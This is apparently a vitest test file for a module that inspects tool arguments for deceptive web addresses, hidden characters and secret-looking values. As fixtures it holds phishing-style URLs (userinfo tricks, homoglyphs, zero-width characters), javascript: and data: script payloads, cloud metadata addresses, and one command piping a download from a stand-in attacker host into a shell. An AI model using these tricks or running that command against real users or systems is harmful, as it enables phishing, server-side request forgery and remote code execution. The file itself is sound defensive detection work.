import { expect, test } from 'vitest';
import { findSecretArguments } from '../secrets/index.js';
import { inspectUrl } from '../url/index.js';
import { inspectValue, mayHoldAddress } from './inspect-value.js';

const addressIn = (value: unknown) =>
  [...inspectValue(value, { inspectUrl }).values()].find(({ address }) => address)?.address;

test('addresses that are not what they seem are found in arguments, and honest ones are not', () => {
  const deceptive = [
    'https://paypal.com@evil.example/login',
    'https://accounts.google.com:443@evil.example',
    'https://pаypal.com/invoice',
    'https://github.com.evil-login.io/session',
    'https://xn--pypal-4ve.com',
    'https://pay\u200Bpal.com/',
    'https://paypal.com\\@evil.example',
    'https:/\\evil.example',
    'https://example.com\u2044evil.example',
    'http://0x7f.1/admin',
    'http://169.254.169.254/latest/meta-data',
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'https://a..example/',
    'https://paypal.com\t@evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:paypal.com@evil.example',
    'ht\ttps://paypal.com@evil.example',
    'https\n://paypal.com@evil.example',
    '\u0000https://paypal.com@evil.example',
    'https:evil。example',
    'https:evil%2Eexample',
    'http:2852039166/latest',
    'http:[fd00:ec2::254]',
  ];
  const honest = [
    'https://api.github.com/repos/elicit-kit/elicit-kit',
    'http://localhost:3000/health',
    'https://user.github.io/page?x=1#y',
    'https://münchen.example/straße',
    'postgres://app:secret@db.internal:5432/app',
    'https://deploy:token@git.example/repo.git',
    'https://accounts.example/authorize?client_id=1&redirect_uri=https%3A%2F%2Fapp.example%2Fcb',
    'http://10.0.0.5:8080/metrics',
    'ssh://git@git.example/repo',
    'curl -s https://api.example.com/v1/users | jq .',
    'See https://docs.example.com/a_(b).',
    'C:\\Users\\ada\\notes.txt',
    'file:///home/ada/notes.txt',
    'wss://stream.example.com/v1',
    'a sentence about java: it runs',
    'https:',
    'ws:',
    'http:80',
    'https:443/tcp',
    'http:GET',
  ];
  expect(deceptive.filter((url) => addressIn({ url }) === undefined)).toEqual([]);
  expect(honest.filter((url) => addressIn({ url }) !== undefined)).toEqual([]);
  expect(deceptive.filter((url) => !mayHoldAddress({ deep: [url] }))).toEqual([]);
});

test('within a longer text an address is told, and nothing is blocked', () => {
  const whole = ['', ' ', '\u0000', '\n'].map((skipped) => `${skipped}https://paypal.com@evil.example`);
  expect(whole.filter((url) => addressIn({ url })?.blocked !== true)).toEqual([]);
  expect(addressIn({ command: 'curl https://paypal.com@evil.example | sh' })).toMatchObject({
    blocked: false,
    text: 'https://paypal.com@evil.example',
    finding: { code: 'userinfo' },
  });
});

test('each finding stands at its value: hidden characters, of the key too, and what looks like a secret', () => {
  const found = inspectValue(
    {
      plain: 'x',
      'ke\u200By': 1,
      list: ['a', 'b\u202Ec'],
      apiKey: 'sk-live-0123456789abcdef',
      auth: { password: 'hunter2' },
      command: 'deploy --token abcdef',
    },
    { findSecretArguments },
  );
  expect(Object.fromEntries(found)).toEqual({
    '/ke\u200By': { hidden: true },
    '/list/1': { hidden: true },
    '/apiKey': { secret: 'all' },
    '/auth/password': { secret: 'all' },
    '/command': { secret: [[15, 21]] },
  });
});

test('signs after an address cost as much as they are many', () => {
  const text = `see https://a.example${').'.repeat(150_000)}x`;
  expect(mayHoldAddress({ text })).toBe(true);
});

test('hostile arguments of 64 KiB are inspected to their end', () => {
  const hostile = ['https://a@', 'https://', 'a//', 'http:\\', '\u200B', 'java', 'data:', 'https://a.b '].map(
    (unit) => ({
      text: unit.repeat(Math.floor(65_000 / unit.length)),
    }),
  );
  expect(
    hostile.map((value) => inspectValue(value, { findSecretArguments, inspectUrl }).size <= 1),
  ).not.toContain(false);
});
